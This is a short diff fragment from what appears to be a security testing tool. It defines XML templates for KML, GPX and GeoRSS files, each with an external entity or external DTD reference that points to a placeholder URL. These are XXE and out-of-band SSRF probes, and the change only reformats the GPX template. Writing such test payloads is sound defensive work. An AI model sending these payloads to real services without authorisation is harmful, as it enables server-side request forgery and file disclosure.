@@ -28,7 +28,8 @@ KML = """<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY out SYSTEM "{url}/entity.x
 <Style id="s"><IconStyle><Icon><href>{url}/icon.png</href></Icon></IconStyle></Style>
 <Placemark><name>&out;</name><styleUrl>{url}/style.kml#s</styleUrl><Point><coordinates>2,13</coordinates></Point>
 </Placemark></Document></kml>"""
-GPX = """<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY % out SYSTEM "{url}/entity.dtd">%out;<!ENTITY e SYSTEM "{url}/e">]>
+GPX = """<?xml version="1.0"?>
+<!DOCTYPE gpx [<!ENTITY % out SYSTEM "{url}/entity.dtd">%out;<!ENTITY e SYSTEM "{url}/e">]>
 <gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1"><trk><trkseg><trkpt lat="13" lon="2">
 <time>2023-07-20T00:00:00Z</time><name>&e;</name></trkpt></trkseg></trk></gpx>"""
 GEORSS = """<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{url}/rss.dtd"><rss version="2.0"><channel><item><title>a</title>
